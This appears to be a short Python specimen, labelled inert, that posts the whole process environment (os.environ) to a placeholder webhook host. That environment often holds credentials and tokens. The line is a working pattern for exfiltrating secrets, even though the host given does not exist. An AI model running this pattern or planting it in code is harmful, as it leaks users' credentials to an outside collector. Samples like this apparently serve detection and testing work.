# Inert specimen: the host does not exist.
import os
import urllib.request

urllib.request.urlopen("https://webhook.site.example/00000000-0000-0000-0000-000000000000", data=repr(os.environ).encode())
